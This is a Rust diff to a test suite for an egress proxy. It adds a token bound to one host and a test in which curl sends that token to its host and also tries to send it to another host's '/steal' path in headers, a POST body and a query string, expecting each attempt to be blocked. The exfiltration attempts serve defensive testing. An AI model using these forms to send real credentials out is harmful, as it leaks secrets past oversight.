@@ -5,6 +5,8 @@ use base64::Engine as _;
 
 use crate::support::*;
 
+/// A token the task holds in the clear, for `api.test` only (a git lease's).
+const BOUND: &str = "rgt_Q8wE3rT6yU1iO4pA7sD0fG5hJ2kL9zX";
 const REAL: &str = "sk-live-Z3kq9PmW2xR7tY4uV8nB6cD1eF5gH0jA";
 const GIT_REAL: &str = "ghp_4rT9sK2mQ7wX1zY6uV3nB8cD5eF0gH2jL9pM";
 const QUERY_REAL: &str = "AIzaSyA1b2C3d4E5f6G7h8I9j0KlMnOpQrStUvW";
@@ -66,6 +68,14 @@ fn world() -> World {
         "the task's identity token".into(),
         remit_egress::Secret::new(TOKEN),
     )];
+    setup.bound = vec![remit_egress::BoundSecret {
+        name: "the git token of `widgets`".into(),
+        value: remit_egress::Secret::new(BOUND),
+        hosts: vec![
+            remit_types::network::HostPattern::parse(&format!("api.test:{}", bound.port()))
+                .unwrap(),
+        ],
+    }];
     let proxy = rt.block_on(setup.start());
     World {
         _rt: rt,
@@ -305,4 +315,64 @@ fn real_secrets_never_leave() {
     // A harmless twin passes.
     let (status, _, _) = w.curl(&["--data", "key=nothing-secret-here", &w.other_url("/ok")]);
     assert_eq!(status, 200);
+}
+
+/// A token the task holds for one host (a git lease's) goes there, in a header or as basic
+/// authentication, and nowhere else, in any form.
+#[test]
+fn a_bound_token_goes_to_its_host_only() {
+    let w = world();
+    let basic = base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{BOUND}"));
+    for args in [
+        vec![
+            "-H".to_owned(),
+            format!("authorization: Bearer {BOUND}"),
+            w.bound_url("/repo.git/info/refs"),
+        ],
+        vec![
+            "-H".to_owned(),
+            format!("authorization: Basic {basic}"),
+            w.bound_url("/repo.git/info/refs"),
+        ],
+    ] {
+        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
+        let (status, headers, body) = w.curl(&refs);
+        assert_eq!(status, 200, "{args:?}: {headers}{body}");
+    }
+    let seen = w.bound.requests();
+    assert_eq!(seen.len(), 2);
+    for args in [
+        vec![
+            "-H".to_owned(),
+            format!("authorization: Bearer {BOUND}"),
+            w.other_url("/steal"),
+        ],
+        vec![
+            "-H".to_owned(),
+            format!("authorization: Basic {basic}"),
+            w.other_url("/steal"),
+        ],
+        vec![
+            "--data".to_owned(),
+            format!("t={BOUND}"),
+            w.other_url("/steal"),
+        ],
+        vec![w.other_url(&format!("/steal?t={BOUND}"))],
+    ] {
+        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
+        let (status, headers, body) = w.curl(&refs);
+        assert_eq!(status, 403, "{args:?}: {headers}{body}");
+        assert!(
+            headers
+                .to_ascii_lowercase()
+                .contains("x-remit-policy: egress.dlp"),
+            "{headers}"
+        );
+        assert!(body.contains("may be sent only to `api.test:"), "{body}");
+        assert!(!body.contains(BOUND), "{body}");
+    }
+    assert!(
+        w.other.requests().is_empty(),
+        "nothing reached the other host"
+    );
 }
